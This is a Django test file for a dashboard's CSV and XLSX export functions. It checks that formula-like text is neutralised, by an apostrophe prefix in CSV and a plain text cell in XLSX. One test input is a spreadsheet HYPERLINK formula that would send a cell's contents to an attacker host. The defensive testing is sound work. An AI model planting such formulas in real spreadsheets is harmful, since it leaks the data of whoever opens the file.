import io
import zipfile

from django.test import SimpleTestCase
from openpyxl import load_workbook

from opsreport.dashboard.exports import csv_bytes, escape_cell, xlsx_bytes


class FormulaEscapingTests(SimpleTestCase):
    def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe(self):
        for text in ["=1+1", "+44 20", "-2", "@SUM(A1)", "\tx", "\rx"]:
            with self.subTest(text=text):
                self.assertEqual(escape_cell(text), "'" + text)

    def test_ordinary_text_and_numbers_pass(self):
        self.assertEqual(escape_cell("Applications"), "Applications")
        self.assertEqual(escape_cell(-2), -2)
        self.assertEqual(escape_cell(""), "")

    def test_csv_is_utf8_with_a_bom(self):
        self.assertEqual(csv_bytes([["é"]]), "\ufeffé\r\n".encode())


class XlsxTextCellTests(SimpleTestCase):
    def test_text_that_looks_like_a_formula_is_a_text_cell_without_an_apostrophe(self):
        texts = ['=HYPERLINK("http://attacker/?"&A1,"x")', "=1+1", "+44 20", "-2", "@SUM(A1)"]
        data = xlsx_bytes([["Name", "Count"], *[[text, 1] for text in texts]], "Names")
        sheet = load_workbook(io.BytesIO(data)).active
        cells = [row[0] for row in sheet.iter_rows(min_row=2)]
        self.assertEqual([cell.value for cell in cells], texts)
        self.assertEqual({cell.data_type for cell in cells}, {"s"})
        self.assertEqual(sheet["B2"].value, 1)
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            self.assertNotIn(b"<f>", archive.read("xl/worksheets/sheet1.xml"))

    def test_the_csv_of_the_same_rows_keeps_the_apostrophe(self):
        text = csv_bytes([["Name"], ["=1+1"], ["-2"]]).decode("utf-8-sig")
        self.assertEqual(text.splitlines(), ["Name", "'=1+1", "'-2"])
